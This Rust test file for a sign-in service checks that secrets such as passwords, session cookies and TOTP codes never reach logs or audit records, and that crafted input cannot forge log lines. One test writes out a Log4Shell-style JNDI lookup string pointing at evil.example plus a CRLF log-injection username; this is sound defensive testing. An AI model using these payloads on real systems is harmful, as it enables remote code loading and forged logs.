//! What people prove themselves with is nowhere but where they sent it (attacks 75 and 76).

use super::browser::{Browser, form_of};
use super::persons::{PASSWORD, person_with_password, set_up_totp, signed_in, totp_code};
use crate::logs::{keep_log, logged};
use crate::world::World;

#[actix_web::test]
async fn attack_75_no_secret_of_a_person_is_logged_or_audited() {
    keep_log();
    let world = World::new().await;
    person_with_password(&world, "ada").await;
    let owner = signed_in(&world, "ada").await;
    let mut canaries = vec![PASSWORD.to_owned(), "a guess that canary made".to_owned()];
    canaries.push(owner.session().unwrap());
    let (secret, codes) = set_up_totp(&world, &owner).await;
    canaries.extend(codes.clone());
    world.advance(30);

    let browser = Browser::new(&world);
    browser.sign_in("ada", "a guess that canary made").await;
    let page = browser.get("/account/sign-in").await;
    canaries.push(browser.cookie("__Host-turnkeep-form").unwrap());
    canaries.extend(form_of(&page, "sign-in-form").hidden.into_iter().map(|(_, value)| value));
    let second = browser.sign_in("ada", PASSWORD).await;
    canaries.extend(form_of(&second, "second-factor-form").hidden.into_iter().map(|(_, value)| value));
    let code = totp_code(&world, &secret);
    browser.submit(&second, "second-factor-form", &[("code", &code)]).await;
    canaries.push(browser.session().unwrap());
    canaries.push(browser.cookie("__Host-turnkeep-device").unwrap());
    let link = browser.get(&world.first_operator_path).await;
    assert_eq!(link.status, 200);
    canaries.push(world.first_operator_path.split('=').nth(1).unwrap().to_owned());

    world.keep_books();
    let audit = world.operate("GET", "/api/v1/audit-events?limit=100", None).await;
    assert!(audit.text().contains("session.begin"), "{}", audit.text());
    let log = logged();
    assert!(log.contains("/account/second-factor"), "the log is that of these requests");
    for canary in canaries.iter().filter(|canary| !canary.is_empty()) {
        assert!(!log.contains(canary.as_str()), "{canary} is in the log");
        assert!(!audit.text().contains(canary.as_str()), "{canary} is in the audit trail");
    }
}

#[actix_web::test]
async fn attack_76_what_a_browser_sends_begins_no_line_of_its_own() {
    keep_log();
    let world = World::new().await;
    person_with_password(&world, "ada").await;
    let browser = Browser::new(&world).called("x\t${jndi:ldap://evil.example/a}");
    browser.sign_in("ada\r\nlevel=ERROR forged", PASSWORD).await;
    browser.sign_in("ada", PASSWORD).await;
    assert_eq!(browser.get("/account").await.status, 200);
    let log = logged();
    assert!(!log.contains("level=ERROR forged") && !log.contains("jndi"));
}
